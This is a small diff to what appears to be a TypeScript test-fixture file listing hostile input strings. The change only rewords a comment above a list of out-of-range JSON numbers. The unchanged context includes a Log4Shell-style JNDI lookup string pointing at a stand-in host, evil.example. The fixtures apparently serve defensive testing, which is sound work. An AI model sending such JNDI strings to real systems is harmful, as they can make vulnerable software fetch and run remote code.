@@ -54,7 +54,7 @@ export const HOSTILE_TEXTS: readonly string[] = [
   '${jndi:ldap://evil.example/}',
 ]
 
-/** What JSON.stringify would not write, each in place of a value. */
+/** Texts that JSON.stringify would not write, each in place of a value. */
 export const HOSTILE_JSON: readonly string[] = [
   '1e400',
   '-1e400',
